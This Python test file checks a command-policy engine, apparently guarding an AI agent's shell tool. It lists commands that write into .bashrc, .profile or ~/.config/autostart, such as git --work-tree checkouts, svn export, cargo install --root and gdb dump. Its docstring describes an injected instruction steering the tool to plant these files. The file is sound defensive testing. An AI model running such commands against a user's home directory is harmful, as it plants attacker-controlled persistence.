"""Threat: a tool that writes where it is told writes a startup file or a persistence location
when an injected instruction tells it so. `git --work-tree=~ checkout -- .bashrc` and
`git -C ~ checkout -- .bashrc` restore a planted `.bashrc` from a repository the attacker
controls; `svn export URL ~/.bashrc`, `hg clone URL ~/.config/autostart`, `cargo install --root
DIR`, `gem install -i DIR`, `python -m venv DIR` and gdb's `dump ... FILE` all write DIR or FILE.
All of these were allowed: the destination was not modelled.

Invariant: these destinations are writes, judged like any other write (a work-tree command
writes the paths it names in the work tree it is given, or the work tree itself); the same
commands inside the project stay allowed."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from crustcore_nano.policy.types import Verdict

BashVerdict = Callable[[str], tuple[Verdict, str]]  # the `bash` fixture of conftest.py
_STARTUP = "builtin:shell-startup-files"
_PERSIST = "builtin:persistence"


@pytest.mark.parametrize(
    ("command", "rule"),
    [
        ("git --work-tree=/home/u checkout -- .bashrc", _STARTUP),
        ("git --work-tree /home/u checkout HEAD -- .bashrc", _STARTUP),
        ("git -C ~ checkout -- .bashrc", _STARTUP),
        ("git -C ~ restore .profile", _STARTUP),
        ("git apply --unsafe-paths evil.patch", "builtin:system-write"),
        ("svn export https://svn.example/x ~/.bashrc", _STARTUP),
        ("hg clone https://hg.example/x ~/.config/autostart", _PERSIST),
        ("cargo install --root ~/.config/autostart evil", _PERSIST),
        ("gem install -i /home/u/.config/autostart evil", _PERSIST),
        ("python -m venv ~/.config/autostart/x", _PERSIST),
        ("virtualenv ~/.config/autostart/x", _PERSIST),
        ("gdb -batch -ex 'dump binary memory /home/u/.bashrc 0 1' /bin/true", _STARTUP),
        ("gdb -batch -ex 'set logging file /home/u/.bashrc' -ex 'set logging on' x", _STARTUP),
    ],
)
def test_a_destination_that_is_protected_is_denied(
    bash: BashVerdict, command: str, rule: str
) -> None:
    assert bash(command) == (Verdict.DENY, rule)


@pytest.mark.parametrize(
    "command",
    [
        "git checkout main",
        "git checkout -- src/app.py",
        "git restore --staged .env",
        "git rm --cached .env",
        "git stash pop",
        "git -C src checkout -- app.py",
        "git apply fix.patch",
        "svn co https://svn.example/repo/trunk vendor/lib",
        "hg clone https://hg.example/repo third_party/x",
        "cargo install --root build/tools just",
        "python -m venv .venv",
        "gdb -batch -ex 'dump binary memory build/mem.bin 0x1000 0x2000' ./a.out",
    ],
)
def test_the_same_commands_inside_the_project_stay_allowed(bash: BashVerdict, command: str) -> None:
    assert bash(command) == (Verdict.ALLOW, "allow")
